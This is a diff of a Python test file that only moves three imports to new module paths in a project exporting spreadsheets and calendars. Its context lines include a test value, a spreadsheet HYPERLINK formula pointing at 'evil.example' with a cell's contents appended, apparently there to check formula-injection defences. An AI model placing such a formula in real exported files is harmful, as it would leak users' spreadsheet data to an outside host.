@@ -15,9 +15,9 @@ import icalendar
 import openpyxl
 import pytest
 
-from generator.exports import downloads
-from generator.exports.spreadsheets import FORMULA_TRIGGERS
-from generator.validate import validate_repository
+from generator.render.exports import downloads
+from generator.render.exports.spreadsheets import FORMULA_TRIGGERS
+from generator.checks.validate import validate_repository
 
 HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Click for details")'
 HOSTILE = {
